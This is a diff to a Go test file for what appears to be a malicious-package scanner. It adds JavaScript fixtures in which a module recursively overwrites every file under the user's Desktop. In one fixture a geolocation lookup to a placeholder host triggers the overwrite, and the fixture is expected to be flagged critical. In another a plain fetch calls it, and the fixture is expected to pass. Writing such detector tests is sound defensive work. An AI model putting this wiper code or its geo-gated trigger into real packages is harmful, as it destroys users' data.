@@ -21,6 +21,15 @@ func TestInfiniteLoop(t *testing.T) {
 
 func TestDestructiveFS(t *testing.T) {
 	rt.Check(t, DestructiveFS{}, []rt.Case{
+		// the wiper in a module of its own, loaded by the one asking an
+		// unknown host for the country; the same module loaded by one
+		// that asks nothing is a sync tool's mirror
+		{"overwrite_walk_split", map[string]string{"package.json": rt.Pkg(`"main":"region.js"`),
+			"wipe.js":   `const fs = require("fs"), os = require("os"), path = require("path"); function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } } module.exports = () => walk(path.join(os.homedir(), "Desktop"))`,
+			"region.js": `const wipe = require("./wipe"); require("https").get({ host: "geo.example.invalid", path: "/json?fields=countryCode" }, (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => check(JSON.parse(b).countryCode)) }); function check(cc) { if (cc === "XX") wipe() }`}, finding.SeverityCritical},
+		{"overwrite_walk_split_ungated", map[string]string{"package.json": rt.Pkg(`"main":"sync.js"`),
+			"wipe.js": `const fs = require("fs"), os = require("os"), path = require("path"); function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } } module.exports = () => walk(path.join(os.homedir(), "Desktop"))`,
+			"sync.js": `const wipe = require("./wipe"); require("https").get("https://api.example.invalid/manifest", (r) => r.on("end", () => wipe()))`}, finding.SeverityNone},
 		// files overwritten one by one from the home directory down, behind a geo check
 		{"overwrite_walk_geo", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
 function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
